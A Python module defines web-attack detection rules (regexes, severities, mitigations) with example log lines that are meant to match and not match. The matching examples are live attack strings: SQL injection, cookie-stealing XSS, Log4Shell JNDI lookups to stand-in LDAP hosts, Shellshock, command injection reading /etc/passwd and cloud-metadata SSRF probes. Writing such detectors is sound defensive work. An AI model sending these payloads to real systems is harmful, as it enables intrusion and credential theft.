"""Web-attack rules, as data: each rule names its threat, severity, where it looks (the decoded
request target or the whole line, e.g. for headers such as the User-Agent), a regex, and
example lines that must and must not match (checked by the tests).
"""

from __future__ import annotations

import re
from dataclasses import dataclass

__all__ = ["RULES", "WebRule"]


@dataclass(frozen=True)
class WebRule:
    id: str
    threat: str
    severity: str  # when answered with an error; a 2xx answer escalates it one step
    field: str  # "target" (URL-decoded request target) | "ua" | "line"
    needles: tuple[str, ...]  # cheap prefilter: one must occur in the lowercased field
    pattern: re.Pattern[str]
    mitigation: str
    positives: tuple[str, ...]
    negatives: tuple[str, ...]


def _rx(p: str) -> re.Pattern[str]:
    return re.compile(p, re.I)


RULES: tuple[WebRule, ...] = (
    WebRule(
        "path-traversal",
        "path traversal",
        "high",
        "target",
        ("..", "/etc/", "c:\\", "/proc/"),
        _rx(r"(?:\.\.[/\\]){1,}|/etc/(?:passwd|shadow|hosts)|c:\\windows|/proc/self/environ"),
        "Normalise and confine file paths to the served root; reject '..' segments.",
        (
            "/static/../../../etc/passwd",
            "/download?file=../../../../etc/shadow",
            "/a?x=..\\..\\windows\\win.ini",
        ),
        ("/static/app.js", "/docs/v1.2/index.html", "/a/b/c"),
    ),
    WebRule(
        "sql-injection",
        "SQL injection",
        "high",
        "target",
        ("select", "'", "sleep", "benchmark", "information_schema", "drop", "waitfor"),
        _rx(
            r"\bunion\b.{0,20}\bselect\b|'\s*(?:or|and)\s*'?\d*'?\s*=\s*'?\d|'\s*or\s+1\s*=\s*1|\bsleep\s*\(\s*\d+\s*\)|"
            r"\bbenchmark\s*\(|\binformation_schema\b|;\s*drop\s+table|\bwaitfor\s+delay\b|\bselect\b.+\bfrom\b.+--"
        ),
        "Use parameterised queries everywhere; put a WAF rule in front until then.",
        (
            "/products?id=1' OR '1'='1",
            "/search?q=1 UNION SELECT username,password FROM users--",
            "/x?id=1 AND SLEEP(5)",
        ),
        ("/products?id=17", "/search?q=selection+of+unions", "/blog/how-to-select-from-a-union"),
    ),
    WebRule(
        "xss",
        "cross-site scripting (XSS)",
        "medium",
        "target",
        ("<", "javascript:", "on", "alert", "cookie"),
        _rx(
            r"<\s*script\b|javascript:|\bon(?:error|load|mouseover|focus)\s*=|<\s*(?:svg|img|iframe)\b[^>]*\bon\w+\s*=|alert\s*\(|document\.cookie"
        ),
        "Encode output by context; set a Content-Security-Policy.",
        (
            "/comment?text=<script>alert(document.cookie)</script>",
            "/p?x=<img src=x onerror=alert(1)>",
            "/r?u=javascript:alert(1)",
        ),
        ("/comment?text=hello", "/scripts/app.js", "/description?q=onload+event+docs"),
    ),
    WebRule(
        "template-injection",
        "server-side template injection",
        "high",
        "target",
        ("{{", "{%", "<%", "#{", "${"),
        _rx(r"\{\{.{0,40}\}\}|\{%.{0,40}%\}|<%=.{0,40}%>|#\{.{0,40}\}|\$\{(?!jndi).{0,40}\}"),
        "Never render user input as a template; use a sandboxed engine.",
        ("/hello?name={{7*7}}", "/x?q=${7*7}", "/x?q=<%= 7*7 %>"),
        ("/hello?name=ada", "/api/v1/items/{id}", "/x?q=7*7"),
    ),
    WebRule(
        "jndi",
        "Log4Shell JNDI injection (CVE-2021-44228)",
        "critical",
        "line",
        ("${",),
        _rx(
            r"\$\{(?:\$\{[^}]*\}|[^}])*?(?:j|\$\{[^}]*j[^}]*\})(?:\$\{[^}]*\}|[^}])*?ndi\s*:|\$\{jndi:"
        ),
        "Upgrade log4j to 2.17+ (or remove JndiLookup); block outbound LDAP/RMI from servers.",
        (
            '"GET / HTTP/1.1" 200 3 "-" "${jndi:ldap://203.0.113.7:1389/Exploit}"',
            "GET /?x=${${lower:j}ndi:ldap://e.example/a}",
        ),
        ('"GET / HTTP/1.1" 200 3 "-" "Mozilla/5.0"', "GET /?x=${HOME}"),
    ),
    WebRule(
        "shellshock",
        "Shellshock (CVE-2014-6271)",
        "critical",
        "line",
        ("() {",),
        _rx(r"\(\)\s*\{\s*:?\s*;\s*\}\s*;"),
        "Patch bash; stop passing request headers to CGI scripts.",
        ('"GET /cgi-bin/status HTTP/1.1" 404 153 "-" "() { :; }; /bin/bash -c \\x22id\\x22"',),
        ('"GET /cgi-bin/status HTTP/1.1" 200 1 "-" "curl/8"', "function() { return 1; }"),
    ),
    WebRule(
        "sensitive-file",
        "sensitive file probe",
        "medium",
        "target",
        (
            "/.",
            "wp-",
            "php",
            "server-status",
            "actuator",
            "backup",
            "dump",
            "db.",
            "database",
            "config",
            "id_rsa",
            "credentials",
            "web.config",
        ),
        _rx(
            r"/\.(?:env|git|svn|hg|aws|ssh|htpasswd|htaccess|DS_Store|npmrc|docker)(?:[/.?]|$)|/wp-(?:config|login|admin)|"
            r"/phpmyadmin|/phpinfo\.php|/server-status|/actuator(?:/|$)|/(?:backup|dump|db|database)\.(?:sql|zip|tar|gz)|"
            r"/config\.php|/id_rsa|/credentials(?:$|\?)|/web\.config|/\.well-known/security\.txt\.bak"
        ),
        "Keep secrets and VCS metadata out of the web root; deny dotfiles in the server config.",
        (
            "/.env",
            "/.git/config",
            "/wp-login.php",
            "/backup.sql",
            "/.aws/credentials",
            "/actuator/env",
        ),
        ("/environment", "/github", "/static/config.js", "/login"),
    ),
    WebRule(
        "command-injection",
        "OS command injection",
        "high",
        "target",
        (";", "|", "&", "`", "$("),
        _rx(
            r"(?:[;|&`]|\$\()\s*(?:cat|id|whoami|uname|wget|curl|nc|ncat|bash|sh|ping|nslookup|sleep)\b[^&=]*"
        ),
        "Never pass request input to a shell; use argument lists and allowlists.",
        ("/ping?host=127.0.0.1;cat /etc/passwd", "/x?f=a|id", "/x?q=$(whoami)", "/x?q=`uname -a`"),
        ("/search?q=cats&dogs=1", "/a;jsessionid=ABC123", "/x?a=1&b=2"),
    ),
    WebRule(
        "ssrf",
        "server-side request forgery probe",
        "high",
        "target",
        ("169.254.169.254", "metadata.google", "file://", "gopher://", "dict://"),
        _rx(r"169\.254\.169\.254|metadata\.google\.internal|(?:file|gopher|dict)://"),
        "Validate outbound URLs against an allowlist; block the metadata address from the application.",
        ("/fetch?url=http://169.254.169.254/latest/meta-data/", "/proxy?u=file:///etc/passwd"),
        ("/fetch?url=https://example.org/a.png", "/files/report.pdf"),
    ),
    WebRule(
        "scanner",
        "vulnerability scanner",
        "medium",
        "ua",
        (
            "sqlmap",
            "nikto",
            "nmap",
            "masscan",
            "zgrab",
            "nuclei",
            "wpscan",
            "buster",
            "ffuf",
            "acunetix",
            "nessus",
            "openvas",
            "whatweb",
            "w3af",
            "burp",
            "zap/",
            "jaeles",
            "arachni",
            "commix",
            "hydra",
            "wfuzz",
        ),
        _rx(
            r"sqlmap|nikto|nmap|masscan|zgrab|nuclei|wpscan|dirbuster|gobuster|feroxbuster|ffuf|acunetix|nessus|openvas|"
            r"whatweb|w3af|burp|zap/|jaeles|arachni|commix|hydra|wfuzz"
        ),
        "Block the scanning address; make sure nothing it probed is exposed.",
        (
            "sqlmap/1.7.2#stable (https://sqlmap.org)",
            "Mozilla/5.0 zgrab/0.x",
            "Nuclei - Open-source project",
        ),
        ("Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0", "curl/7.88.1", "kube-probe/1.29"),
    ),
)
